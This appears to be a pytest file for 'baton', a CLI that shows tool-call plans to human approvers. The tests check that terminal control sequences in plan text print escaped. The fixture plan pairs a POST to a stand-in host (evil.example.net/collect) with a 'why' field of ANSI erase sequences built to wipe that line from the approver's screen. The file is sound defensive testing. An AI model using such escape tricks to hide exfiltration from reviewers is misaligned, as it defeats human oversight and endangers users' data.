"""Text from a plan, a tool or a command line prints escaped (``\\x1b``), never as a control.

A plan's second step whose ``why`` held five "cursor up, erase line" sequences erased, on an
approver's terminal, the five lines above it in ``baton plans show``: the URL of a POST to
another host among them. Goals, reasons, errors, user ids and tool output are escaped as step
ids already were (``step save\\n``); ``--json`` keeps them as written.
"""

from __future__ import annotations

import io
import json
import re

from rich.console import Console

ERASE_ABOVE = "\x1b[1A\x1b[2K" * 5
# ESC, CR, BS, DEL, a C1 CSI, a right-to-left override, a line separator.
CONTROLS = ("\x1b", "\r", "\b", "\x7f", "\x9b", "\u202e", "\u2028")
GOAL = "tidy " + "".join(CONTROLS) + " up"
SHOWN_GOAL = "tidy \\x1b\\r\\x08\\x7f\\x9b\\u202e\\u2028 up"
HIDING_PLAN = {"goal": GOAL, "steps": [
    {"id": "post", "tool": "http.request",
     "args": {"method": "POST", "url": "https://evil.example.net/collect", "body": "b\x9bc"}},
    {"id": "save", "tool": "files.write", "why": "save " + ERASE_ABOVE + "ok",
     "args": {"path": "b.csv", "text": "x"}}]}


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in CONTROLS if ch in text]


def _plan(cli, data_dir, document) -> str:
    (data_dir / "hide.json").write_text(json.dumps(document))
    planned = cli("--as", "alice", "plan", "--file", "hide.json", "--json")
    assert planned.stdout, planned.stderr
    return json.loads(planned.stdout)["plan_id"]


def test_plans_show_prints_a_why_that_would_erase_the_lines_above_escaped(cli, data_dir):
    plan_id = _plan(cli, data_dir, HIDING_PLAN)
    for argv in (["plans", "show", plan_id], ["--as", "alice", "plan", "--file", "hide.json"]):
        shown = cli(*argv)
        assert _raw_controls(shown.stdout) == [], argv
        unwrapped = re.sub(r"\n[ │├└─]*", "", shown.stdout)  # the why wraps in the tree
        assert "why: save " + "\\x1b[1A\\x1b[2K" * 5 + "ok" in unwrapped, argv
        assert 'url: "https://evil.example.net/collect"' in shown.stdout, argv
        assert f"goal: {SHOWN_GOAL}" in shown.stdout, argv
        assert 'body: "b\\x9bc"' in shown.stdout, argv


def test_plans_list_prints_the_goal_escaped(cli, data_dir):
    _plan(cli, data_dir, HIDING_PLAN)
    listed = cli("plans", "list")
    assert listed.returncode == 0, listed.stderr
    assert _raw_controls(listed.stdout) == []
    assert "\\u202e" in listed.stdout


def test_json_output_keeps_the_text_as_written(cli, data_dir):
    plan_id = _plan(cli, data_dir, HIDING_PLAN)
    shown = json.loads(cli("plans", "show", plan_id, "--json").stdout)
    assert shown["plan"]["goal"] == GOAL
    assert shown["plan"]["steps"][1]["why"] == "save " + ERASE_ABOVE + "ok"


def test_an_unknown_user_is_named_escaped_on_one_line(cli):
    for user, named in (("x\x1b[31my", "x\\x1b[31my"), ("a\nb", "a\\nb")):
        done = cli("--as", user, "plans", "list")
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith("error: unknown user") and done.stderr.count("\n") == 1
        assert _raw_controls(done.stderr) == [] and named in done.stderr


def test_a_rejection_reason_prints_escaped(cli, plan_id):
    reason = "no " + ERASE_ABOVE + "\u202e"
    rejected = cli("--as", "bob", "reject", plan_id, "--reason", reason)
    assert rejected.returncode == 0, rejected.stderr
    assert _raw_controls(rejected.stdout) == [] and "\\x1b[1A" in rejected.stdout
    shown = cli("plans", "show", plan_id)
    assert _raw_controls(shown.stdout) == []


def test_audit_show_prints_payloads_escaped(cli, data_dir):
    _plan(cli, data_dir, HIDING_PLAN)
    shown = cli("audit", "show", "--limit", "100")
    assert shown.returncode == 0, shown.stderr
    assert _raw_controls(shown.stdout) == []


def test_validate_prints_the_goal_escaped(cli, data_dir):
    document = {"goal": GOAL, "steps": [{"id": "load", "tool": "files.read",
                                         "args": {"path": "a.csv"}}]}
    (data_dir / "goal.json").write_text(json.dumps(document))
    checked = cli("validate", "goal.json")
    assert checked.returncode == 0, checked.stderr
    assert _raw_controls(checked.stdout) == [] and f"goal:  {SHOWN_GOAL}" in checked.stdout


def test_a_run_error_prints_escaped(cli, plan_id, capsys):
    from executor.records import RunRecord

    from baton.cli.run_cmd import _summary

    assert cli("--as", "bob", "approve", plan_id).returncode == 0
    ran = cli("--as", "alice", "run", plan_id, "--json")
    assert ran.returncode == 0, ran.stderr
    record = RunRecord.model_validate(json.loads(ran.stdout))
    capsys.readouterr()
    _summary(record.model_copy(update={"error": "step load failed: " + ERASE_ABOVE}))
    out = capsys.readouterr().out
    assert _raw_controls(out) == [] and "cause: step load failed:" in out and "\\x1b[1A" in out


def test_feedback_and_error_of_a_version_print_escaped(cli, data_dir):
    from planner.versions import StoredVersion

    from baton.cli.render import render_plan_tree

    plan_id = _plan(cli, data_dir, HIDING_PLAN)
    document = json.loads(cli("plans", "show", plan_id, "--json").stdout)
    stored = StoredVersion.model_validate(
        {key: value for key, value in document.items() if key in StoredVersion.model_fields})
    stored = stored.model_copy(update={"feedback": "redo " + ERASE_ABOVE,
                                       "error": "failed \x1b]0;title\x07 [bold]x[/]"})
    out = io.StringIO()
    Console(file=out, force_terminal=True, width=200).print(render_plan_tree(stored))
    text = out.getvalue()
    assert "\x1b[1A" not in text and "\x1b]0;" not in text and "\x07" not in text
    assert "redo \\x1b[1A" in text and "failed \\x1b]0;title\\x07 [bold]x[/]" in text
